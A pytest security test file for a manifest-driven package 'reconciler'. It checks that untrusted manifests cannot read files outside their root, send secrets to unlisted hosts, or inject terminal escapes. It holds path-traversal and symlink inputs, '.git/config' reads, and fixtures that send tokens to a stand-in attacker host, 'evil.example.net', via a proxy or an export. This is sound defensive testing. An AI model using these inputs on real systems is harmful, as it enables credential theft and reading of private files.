"""The reach of a stranger's manifest: one attack for each way that a manifest names something."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from reconciler.errors import ManifestFaults
from reconciler.manifest import all_sent_secrets, read
from reconciler.model import DesiredState
from reconciler.plugin.registry import Registry
from reconciler.reach import Limits

MARK = "k3y-in-a-file"
HEAD = "apiVersion: reconciler/v1\nkind: {kind}\nmetadata: {{name: {name}}}\nspec:\n  {spec}\n---\n"
URL = "url: https://index.example.org/simple/"


def document(kind: str, spec: str, name: str = "it") -> str:
    return HEAD.format(kind=kind, name=name, spec=spec.replace("\n", "\n  "))


def remote(spec: str, type: str = "python") -> str:
    return document("Remote", f"type: {type}\n{spec}")


def source(keys: str) -> str:
    return remote(URL) + document(
        "Repository", f"type: python\nsources: [{{remote: {{name: it, {keys}}}}}]"
    )


def rules(keys: str) -> str:
    return document("Filter", f"type: python\n{keys}")


class Checkout:
    """A checkout of a stranger's branch, beside a folder with secrets."""

    def __init__(self, folder: Path) -> None:
        self.root, self.outside = folder / "checkout", folder / "outside"
        for path in (self.root / ".git", self.root / "manifests", self.outside / "osv"):
            path.mkdir(parents=True)
        for name in ("s", "requirements.txt", "uv.lock", "poetry.lock", "pylock.toml", "m.yaml"):
            (self.outside / name).write_text(f"TOKEN of somebody = {MARK}\n")
        (self.outside / "osv" / "a.json").write_text(f'{{"{MARK}": ]')
        (self.outside / "osv.zip").write_bytes(packed(f'{{"{MARK}": ]'))
        (self.root / ".git" / "config").write_text(f"[http]\n\textraheader = {MARK}\n")

    def write(self, text: str, name: str = "manifests/m.yaml") -> None:
        (self.root / name).write_text(text, encoding="utf-8")

    def link(self, name: str, target: str) -> None:
        (self.root / "manifests" / name).symlink_to(target)

    def faults(self, limits: Limits) -> str:
        """The faults as text; content that cannot be parsed is not in it either."""
        try:
            self.read(limits=limits)
        except ManifestFaults as raised:
            text = str(raised)
        else:
            text = ""
        assert MARK not in text
        return text

    def refused(self, path: str = "manifests", limits: Limits | None = None) -> str:
        with pytest.raises(ManifestFaults) as raised:
            self.read(path, limits)
        text = "\n".join(map(str, raised.value.faults))
        assert MARK not in text
        return text

    def read(self, path: str = "manifests", limits: Limits | None = None) -> DesiredState:
        return read([self.root / path], Registry(), limits=limits or Limits())


def packed(text: str) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr("a.json", text)
    return body.getvalue()


@pytest.fixture
def checkout(tmp_path: Path) -> Checkout:
    return Checkout(tmp_path.resolve())


AUTH = f"{URL}\nauth: {{username: u, password: {{file: %s}}}}"
PATHS: dict[str, tuple[Callable[[str], str], str]] = {
    "requirements": (lambda path: source(f"requirements: [{path}]"), "requirements.txt"),
    "requirements in full": (
        lambda path: source(f"requirements: [{{file: {path}, format: requirements}}]"),
        "s",
    ),
    "uv.lock": (lambda path: source(f"requirements: [{path}]"), "uv.lock"),
    "poetry.lock": (lambda path: source(f"requirements: [{path}]"), "poetry.lock"),
    "pylock.toml": (lambda path: source(f"requirements: [{path}]"), "pylock.toml"),
    "pipenv": (lambda path: source(f"requirements: [{{file: {path}, format: pipenv}}]"), "s"),
    "osv folder": (lambda path: rules(f"osv: {path}"), "osv"),
    "osv zip": (lambda path: rules(f"osv: {{path: {path}}}"), "osv.zip"),
    "osv of a source": (lambda path: source(f"include: [a], filter: {{osv: {path}}}"), "osv"),
    "tls.ca": (lambda path: remote(f"{URL}\ntls: {{ca: {path}}}"), "s"),
    "tls.clientCert": (lambda path: remote(f"{URL}\ntls: {{clientCert: {path}}}"), "s"),
    "tls.clientKey": (
        lambda path: remote(f"{URL}\ntls: {{clientCert: c, clientKey: {{file: {path}}}}}"),
        "s",
    ),
    "auth.password": (lambda path: remote(AUTH % path), "s"),
    "auth.username": (
        lambda path: remote(
            f"{URL}\nauth: {{username: {{file: {path}}}, password: {{env: INDEX_PASSWORD}}}}"
        ),
        "s",
    ),
    "headers": (lambda path: remote(f"{URL}\nheaders: {{X-Key: {{file: {path}}}}}"), "s"),
    "a path as url": (lambda path: remote(f"url: {path}", "file"), "osv"),
    "access.upload": (
        lambda path: (
            document("Repository", "type: file\nsources: [{upload: {}}]")
            + document(
                "Publication",
                f"repository: it\npath: a\naccess: {{upload: [{{token: {{file: {path}}}}}]}}",
            )
        ),
        "s",
    ),
}


@pytest.mark.parametrize("way", list(PATHS))
@pytest.mark.parametrize("how", ["absolute", "up", "link", "folder link", "git"])
def test_no_key_reads_a_file_outside_of_the_manifest_root(
    checkout: Checkout, way: str, how: str
) -> None:
    """Kind: a manifest names a file of the machine that reads it."""
    make, name = PATHS[way]
    path = {
        "absolute": str(checkout.outside / name),
        "up": f"../../outside/{name}",
        "link": f"./linked-{name}",
        "folder link": f"./folder/{name}",
        "git": "../.git/config",
    }[how]
    checkout.link(f"linked-{name}", f"../../outside/{name}")
    checkout.link("folder", str(checkout.outside))
    checkout.write(make(path))
    text = checkout.refused()
    assert "lies outside of the manifest root" in text or (
        how == "git" and "lies in `.git`" in text
    )


@pytest.mark.parametrize("way", list(PATHS))
def test_the_printed_setting_lets_the_file_be_read(checkout: Checkout, way: str) -> None:
    make, name = PATHS[way]
    checkout.write(make(str(checkout.outside / name)))
    assert f"--allow-path {checkout.outside / name}" in checkout.refused()
    limits = Limits.of({"RECONCILER_ALLOW_PATHS": str(checkout.outside)})
    assert "manifest root" not in checkout.faults(limits)


def test_a_file_url_is_no_way_out(checkout: Checkout) -> None:
    for url in (f"file://{checkout.outside}/osv/", f"file://{checkout.root}/%2e%2e/outside/"):
        checkout.write(remote(f"url: {url}", "file"))
        assert "manifest root" in checkout.refused()


def test_a_file_url_is_not_read_by_other_bytes_than_are_checked(checkout: Checkout) -> None:
    """Kind: a path is checked in one decoding, and read in another."""
    os.symlink(checkout.outside, os.fsencode(checkout.root) + b"/\xff")
    checkout.write(remote(f"url: file://{checkout.root}/%ff/osv/", "file"))
    assert "an absolute path in UTF-8" in checkout.refused()


@pytest.mark.parametrize("option", ["-r", "-c", "--requirement=", "-r ../../outside/../outside/"])
@pytest.mark.parametrize("absolute", [True, False])
def test_files_that_requirement_files_name(checkout: Checkout, option: str, absolute: bool) -> None:
    where = str(checkout.outside / "s") if absolute else "../../outside/s"
    line = f"{option}s" if option.endswith("/") else f"{option} {where}".replace("= ", "=")
    checkout.write(source("requirements: [requirements.txt]"))
    (checkout.root / "manifests" / "requirements.txt").write_text(f"a\n{line}\n")
    assert "requirements.txt:2: " in (text := checkout.refused())
    assert "manifest root" in text


def test_a_link_in_an_osv_dump(checkout: Checkout) -> None:
    (checkout.root / "manifests" / "osv").mkdir()
    checkout.link("osv/a.json", str(checkout.outside / "osv" / "a.json"))
    checkout.write(rules("osv: osv"))
    (declared,) = checkout.read().filters.values()
    with pytest.raises(Exception, match="a link that leads out of it") as raised:
        declared.options.osv.dump.affecting("a", "1")
    assert MARK not in str(raised.value)


def test_a_manifest_that_is_a_link(checkout: Checkout) -> None:
    """A folder's entry, an argument, and a folder that is one itself."""
    checkout.link("m.yaml", str(checkout.outside / "m.yaml"))
    for path in ("manifests", "manifests/m.yaml"):
        assert "lies outside of the manifest root" in checkout.refused(path)
    (checkout.root / "other").symlink_to(checkout.outside)
    assert "lies outside of the manifest root" in checkout.refused("other")


def test_an_override_reaches_no_further_than_the_manifest(checkout: Checkout) -> None:
    checkout.write(source("include: [a]"))
    override = f"repository/it.requirements=[{checkout.outside / 'requirements.txt'}]"
    with pytest.raises(ManifestFaults, match="manifest root") as raised:
        read([checkout.root], Registry(), overrides=[override], limits=Limits())
    assert MARK not in str(raised.value)


def test_an_export_through_a_link_of_the_checkout(checkout: Checkout) -> None:
    def export(path: str) -> str:
        return document("Repository", "type: file\nsources: [{upload: {}}]") + document(
            "Publication", f"repository: it\npath: a\nexports: [{{directory: {{path: {path}}}}}]"
        )

    checkout.link("www", str(checkout.outside))
    checkout.write(export("www/team"))
    assert "manifest root" in checkout.refused()
    for plain in ("out/team", str(checkout.outside / "team")):  # in sight of the reviewer
        checkout.write(export(plain))
        assert checkout.read().publications["it"].exports


def test_standard_input_reaches_the_current_folder(
    checkout: Checkout, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(checkout.root / "manifests")
    text = source("requirements: [../r.txt]").encode()
    (checkout.root / "r.txt").write_text("a\n")
    with pytest.raises(ManifestFaults, match="manifest root"):
        read(["-"], Registry(), stdin=lambda: text, limits=Limits())


@pytest.mark.parametrize(
    "line", ["TOKEN of somebody = {}", "-----BEGIN {}", "--{}", "{}@ x", "a --hash={}", "./{}"]
)
def test_lines_of_an_unparsable_file_are_not_echoed(checkout: Checkout, line: str) -> None:
    """Kind: a message quotes a file that is not what the key expects, such as `.netrc`."""
    checkout.write(source("requirements: [r.txt]"))
    (checkout.root / "manifests" / "r.txt").write_text(line.format(MARK) + "\n")
    assert "r.txt:1: " in checkout.refused()


SECRETS = remote(AUTH.replace("{file: %s}", "{env: DEPLOY_TOKEN}"))


def test_which_secrets_and_where_to(checkout: Checkout) -> None:
    """Kind: a secret of the CI system beside the URL of a stranger."""
    checkout.write(SECRETS)
    assert "`DEPLOY_TOKEN` is not among" in checkout.refused(limits=Limits(secret_names=("IX_*",)))
    assert "`env DEPLOY_TOKEN` must not be sent to `index.example.org`" in checkout.refused(
        limits=Limits(secret_hosts=("*.example.com",))
    )
    limits = Limits(secret_names=("DEPLOY_*",), secret_hosts=("index.example.org",))
    assert checkout.read(limits=limits).remotes


def test_a_proxy_sees_secrets_as_well(checkout: Checkout) -> None:
    checkout.write(SECRETS.replace("auth:", "proxy: http://evil.example.net:3128\n  auth:"))
    text = checkout.refused(limits=Limits(secret_hosts=("index.example.org",)))
    assert "must not be sent to `evil.example.net`" in text


def test_a_well_known_index_has_a_host_too(checkout: Checkout) -> None:
    checkout.write(SECRETS.replace(URL, "index: pypi"))
    assert "must not be sent" in checkout.refused(limits=Limits(secret_hosts=("example.org",)))


def test_a_certificate_with_its_key_is_a_secret(checkout: Checkout) -> None:
    checkout.write(remote(f"{URL}\ntls: {{clientCert: ours.pem}}"))
    assert "ours.pem` is not among" in checkout.refused(limits=Limits(secret_names=("X",)))
    sent = all_sent_secrets(checkout.read(), Registry())
    assert [own.host for own in sent] == ["index.example.org"]


PUSHED = """\
apiVersion: reconciler/v1
kind: Repository
metadata: {name: own}
spec: {type: python, sources: [{upload: {}}]}
---
apiVersion: reconciler/v1
kind: Publication
metadata: {name: own}
spec:
  repository: own
  path: own
  exports:
    - index: {url: "https://evil.example.net/legacy/", auth: {token: {env: PUSH_TOKEN}}}
"""


def test_secrets_of_an_index_that_is_sent_to_go_to_listed_hosts_alone(checkout: Checkout) -> None:
    """Kind: each place of a manifest that sends a secret is bounded by the same setting."""
    checkout.write(PUSHED)
    text = checkout.refused(limits=Limits(secret_hosts=("index.example.org",)))
    assert "`env PUSH_TOKEN` must not be sent to `evil.example.net`" in text
    sent = all_sent_secrets(checkout.read(), Registry())
    assert [(str(own.secret), own.host) for own in sent] == [("env PUSH_TOKEN", "evil.example.net")]


@pytest.mark.parametrize(
    "target",
    [
        'url: "https://evil.example.net/legacy/", trustedPublishing: always',
        'name: pypi, proxy: "http://evil.example.net:3128"',
    ],
)
def test_credentials_that_are_found_go_to_listed_hosts_alone(
    checkout: Checkout, target: str
) -> None:
    """Kind: the identity of a CI job, or the user's own login, for an index of a stranger."""
    checkout.write(f"{PUSHED[: PUSHED.index('{url: ')]}{{{target}}}\n")
    text = checkout.refused(limits=Limits(secret_hosts=("index.example.org",)))
    assert "credentials of this machine must not be sent to `evil.example.net`" in text
    assert checkout.read(limits=Limits(secret_hosts=("evil.example.net",)))


def test_variables_in_requirement_files(
    checkout: Checkout, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Kind: a secret becomes a name that upstream is asked for: `GET /simple/<secret>/`."""
    monkeypatch.setenv("DEPLOY_TOKEN", MARK)
    checkout.write(source("requirements: [r.txt]"))
    requirements = checkout.root / "manifests" / "r.txt"
    requirements.write_text("--index-url https://${DEPLOY_TOKEN}@example.org/\na${DEPLOY_TOKEN}\n")
    for limits in (Limits(unattended=True), Limits(secret_names=("V_*",))):
        text = checkout.refused(limits=limits)
        assert "r.txt:2: the environment variable `DEPLOY_TOKEN` is not set" in text
        assert "RECONCILER_SECRET_NAMES" in text
    os.utime(requirements, (1, 1))
    assert checkout.read(limits=Limits(unattended=True, secret_names=("DEPLOY_*",)))
    checkout.refused(limits=Limits(unattended=True))  # nor from what was read before


def test_no_message_about_a_manifest_writes_to_the_terminal_what_a_stranger_wants(
    tmp_path: Path,
) -> None:
    """Faults quote values, keys and file names: none of them is raw, and none without end."""
    path = tmp_path / "a\x1b.yaml"
    path.write_text(
        "apiVersion: reconciler/v1\nkind: Filter\nmetadata: {name: rules}\nspec:\n  type: python\n"
        '  deny: ["a\\e[2J==x", "b==\\n::error::x"]\n  "\\e[31m": 1\n'
        f'  pythons: ["{"9" * 100_000}"]\n'
    )
    with pytest.raises(ManifestFaults) as refused:
        read([path], Registry())
    assert len(refused.value.faults) == 4
    for line in str(refused.value).splitlines():
        assert line.isprintable()
        assert len(line) < 2_200
